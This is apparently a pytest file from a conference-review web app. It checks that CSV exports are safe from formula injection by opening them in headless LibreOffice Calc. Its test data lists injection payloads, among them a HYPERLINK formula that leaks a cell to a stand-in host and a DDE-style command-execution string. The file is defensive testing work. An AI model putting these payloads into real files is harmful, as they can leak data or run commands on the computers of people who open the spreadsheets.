"""Attack: CSV injection. Titles, names and review comments that spreadsheets would run as
formulas, checked by opening every CSV export in LibreOffice Calc.

Each export is converted headless to flat OpenDocument (``.fods``) twice: split on "," and
split on ";" (how a German or French spreadsheet reads it), both with "evaluate formulas" and
"trim spaces" on, the most trusting settings. No cell of the result may carry a formula, and
ordinary text must read exactly as typed.

Needs ``soffice`` (Debian's libreoffice-calc; ``scripts/ensure-libreoffice.sh`` installs it);
skipped without it, failed with ``PODIUM_REQUIRE_LIBREOFFICE=1`` (CI).
"""

from __future__ import annotations

import os
import shutil
import subprocess
from pathlib import Path

import pytest
from flask import Flask
from lxml import etree

from podium.extensions import db
from podium.review import services as review_services
from podium.review.models import ReviewerAssignment
from podium.spreadsheet import safe_cell
from tests.support.auth import login
from tests.support.factories import (
    EventFactory,
    MembershipFactory,
    SpeakerProfileFactory,
    SubmissionFactory,
    UserFactory,
)

TABLE = "urn:oasis:names:tc:opendocument:xmlns:table:1.0"
TEXT = "urn:oasis:names:tc:opendocument:xmlns:text:1.0"
# Field separator, text delimiter ("), UTF-8, from line 1, no column formats, default
# language, quoted fields not forced to text, detect special numbers, (export options),
# trim spaces, all sheets, evaluate formulas.
SEPARATORS = {"comma": 44, "semicolon": 59}

PLAIN_TITLE = "Plain title, with; separators and \u201cquotes\u201d"
ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    " =1+1",
    "\t=1+1",
    "Harmless first line\n=1+1",
    "Two lines\r\n+cmd|' /C calc'!A0",
    "x;=1+1",
    'quote";=1+1;"',
]


def _soffice() -> str:
    found = shutil.which("soffice")
    if found is None:
        reason = "LibreOffice (soffice) is not installed; run scripts/ensure-libreoffice.sh"
        if os.environ.get("PODIUM_REQUIRE_LIBREOFFICE") == "1":
            pytest.fail("PODIUM_REQUIRE_LIBREOFFICE=1 but " + reason)
        pytest.skip(reason)
    return found


def _open_in_calc(soffice: str, files: list[Path], separator: int, out: Path) -> list[Path]:
    options = f"CSV:{separator},34,76,1,,0,false,true,false,false,true,-1,true"
    subprocess.run(
        [
            soffice,
            "--headless",
            "--norestore",
            f"-env:UserInstallation=file://{out / 'profile'}",
            "--convert-to",
            "fods",
            f"--infilter={options}",
            "--outdir",
            str(out),
            *map(str, files),
        ],
        check=True,
        capture_output=True,
        timeout=240,
    )
    return [out / (f.stem + ".fods") for f in files]


def _cells(fods: Path) -> list[tuple[str, str | None]]:
    """Every non-empty cell as ``(text, formula)``; lines of a cell joined by newlines."""
    tree = etree.parse(str(fods))
    cells = []
    for cell in tree.iter(f"{{{TABLE}}}table-cell"):
        lines = ["".join(p.itertext()) for p in cell.iter(f"{{{TEXT}}}p")]
        formula = cell.get(f"{{{TABLE}}}formula")
        if lines or formula:
            cells.append(("\n".join(lines), formula))
    return cells


@pytest.fixture
def exports(app: Flask, tmp_path: Path) -> list[Path]:
    """The event's three CSV exports, with attacks in titles, names and a review comment."""
    event = EventFactory()
    organizer, reviewer = UserFactory(), UserFactory()
    MembershipFactory(event=event, user=organizer, role="organizer")
    MembershipFactory(event=event, user=reviewer, role="reviewer")
    db.session.add(ReviewerAssignment(event_id=event.id, reviewer_id=reviewer.id))
    db.session.commit()
    submissions = [SubmissionFactory(event=event, title=PLAIN_TITLE)]
    for attack in ATTACKS:
        speaker = SpeakerProfileFactory(name=attack[:200])
        submissions.append(SubmissionFactory(event=event, title=attack, speaker=speaker))
    for submission in submissions:
        review_services.save_review(
            event=event,
            reviewer=reviewer,
            submission_id=submission.id,
            score=2,
            comment=submission.title,
        )
    files = []
    for user, url in (
        (organizer, f"/orga/{event.slug}/submissions.csv"),
        (organizer, f"/orga/{event.slug}/ranking.csv"),
        (reviewer, f"/review/{event.slug}/submissions.csv"),
    ):
        response = login(app.test_client(), user).get(url)
        assert response.status_code == 200
        path = tmp_path / (url.strip("/").replace("/", "-"))
        path.write_bytes(response.data)
        files.append(path)
    return files


@pytest.mark.parametrize("split_on", sorted(SEPARATORS))
def test_no_export_cell_is_a_formula_in_libreoffice(
    exports: list[Path], tmp_path: Path, split_on: str
) -> None:
    soffice = _soffice()
    converted = _open_in_calc(soffice, exports, SEPARATORS[split_on], tmp_path / split_on)
    for export, fods in zip(exports, converted, strict=True):
        cells = _cells(fods)
        assert len(cells) > len(ATTACKS), export.name
        formulas = [(text, formula) for text, formula in cells if formula]
        assert formulas == [], (export.name, formulas)
        if split_on == "comma":
            texts = [text for text, _ in cells]
            # Ordinary text reads as typed; an attack reads as typed after an apostrophe.
            assert PLAIN_TITLE in texts, export.name
            assert '\'=HYPERLINK("http://evil.example/?"&A1,"Click")' in texts, export.name


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (PLAIN_TITLE, PLAIN_TITLE),
        ("Ünïcödé \u2013 fine", "Ünïcödé \u2013 fine"),
        ("Harmless first line\n=1+1", "Harmless first line\n'=1+1"),
        ("Two lines\r\n+cmd", "Two lines\r\n'+cmd"),
        (" =1+1", "' =1+1"),
        ("\t=1+1", "'\t=1+1"),
        ("x;=1+1", "x;'=1+1"),
        ('quote";=1+1;"', 'quote";\'=1+1;"'),
        ("Talk; part 2", "Talk; part 2"),
        (-0.5, "-0.5"),
        (None, ""),
    ],
)
def test_safe_cell_escapes_only_lines_that_start_a_formula(value: object, cell: str) -> None:
    assert safe_cell(value) == cell
